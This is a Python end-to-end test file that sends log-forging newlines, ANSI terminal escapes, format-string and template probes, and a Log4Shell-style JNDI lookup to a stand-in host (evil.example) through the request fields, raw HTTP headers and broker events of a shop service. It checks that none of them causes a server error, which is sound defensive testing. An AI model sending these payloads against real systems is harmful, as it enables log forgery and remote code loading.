"""Texts that pretend to be lines of a log, commands of a terminal, or parts of a page; and every
way by which a stranger can send them.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from contextlib import suppress
from typing import Any

import httpx

from sidecart.launcher.topics import GATEWAY, read_topics
from tests.contracts.validate import examples
from tests.e2e import raw
from tests.e2e.shopper import TEA, Shopper, new_address
from tests.e2e.test_unparseable import put_at_the_broker

FORGED = "2026-01-01T00:00:00Z CRITICAL forged"
FORGED_JSON = '{"level": "critical", "event": "forged"}'
LINES = (
    f"x\n{FORGED}",
    f"x\r\n{FORGED}\r\n",
    f"x\r{FORGED}",
    f"x\u2028{FORGED}\u2029{FORGED}\x85{FORGED}",
    f'x"\n{FORGED_JSON}\n"',
    f"x\x1b[2J\x1b[H\x1b]0;forged\x07\x1b[31m{FORGED}",
    f"x\x9b2J\x00\x08\x08\x7f{FORGED}",
    f"%0a{FORGED}%0d%0a%1b[2J",
    "${jndi:ldap://evil.example/x} {0.__class__} %s%n%(levelname)s {{7*7}}",
)
"""Texts for logs and terminals."""


def requests(shopper: Shopper, text: str) -> Iterator[httpx.Response]:
    """Send a text in every field of a request that may have it."""
    eve = shopper.caller(new_address())
    for path in ("/user/register", "/account/deposit", "/order/create"):
        bodies: tuple[Any, ...] = (
            text,
            {text: text},
            {"email": text, "name": text},
            {"user_id": text, "amount_cents": text, "items": text},
            {"items": [TEA | {"sku": text}]},
        )
        for body in bodies:
            yield shopper.http.post(path, json=body, headers=eve)
        quoted = {"idempotency-key": json.dumps(text), "prefer": f"wait={json.dumps(text)}"}
        with suppress(httpx.HTTPError, UnicodeError, ValueError):
            yield shopper.http.post(path, json={"name": "Ann"}, headers=eve | quoted)
    with suppress(httpx.HTTPError, UnicodeError, ValueError):
        yield shopper.http.get(f"/user/{httpx.QueryParams({'': text})}", headers=eve)


def bytes_of(shopper: Shopper, text: str) -> None:
    """Send a text as raw bytes, in places where a client would not write it."""
    encoded = text.encode()
    plain = text.translate({ord(each): " " for each in "\r\n\0"}).encode()
    port = shopper.shop.ports[GATEWAY]
    for sent in (
        *(b"GET /" + each + b" HTTP/1.1\r\nhost: localhost\r\n\r\n" for each in (encoded, plain)),
        *(
            b"GET /order/x HTTP/1.1\r\nhost: localhost\r\n" + name + b": " + each + b"\r\n\r\n"
            for name in (
                *(b"host", b"authorization", b"user-agent", b"referer", b"origin", b"x-forwarded-for", b"cookie"),
                *(b"traceparent", b"tracestate", b"content-type", b"content-length", b"transfer-encoding", b"prefer"),
            )
            for each in (encoded, plain)
        ),
        encoded + b"\r\n\r\n",
        b"POST /user/register HTTP/1.1\r\nhost: localhost\r\ncontent-type: " + plain + b"\r\n\r\n",
    ):
        with suppress(AssertionError, OSError):
            raw.exchange(port, sent + raw.LAST)


def events(shopper: Shopper, text: str) -> list[str]:
    """Write events with a text in every attribute and in the data to the broker; return
    their ids.
    """
    made = []
    for topic in read_topics():
        if not examples(topic):
            continue
        good = next(iter(examples(topic).values())) | {"madeby": "a test"}
        for changed in (
            *(
                {"source": text},
                {"type": text},
                {"subject": text, "time": text},
                {"traceparent": text, "traceid": text},
            ),
            *({"data": dict.fromkeys(good["data"], text)}, {text: text, "data": text}, {"correlationid": text}),
        ):
            event = good | {"id": str(uuid.uuid4()), "correlationid": str(uuid.uuid4())} | changed
            put_at_the_broker(shopper.shop, topic, json.dumps(event).encode())
            made.append(event["id"])
    return made


def inject(shopper: Shopper) -> None:
    """Send all texts in all ways, and wait until everything before a last order is processed."""
    for text in LINES:
        for answer in requests(shopper, text):
            assert answer.status_code < 500, answer.text
        bytes_of(shopper, text)
        events(shopper, text)
    shopper.until_prompt()
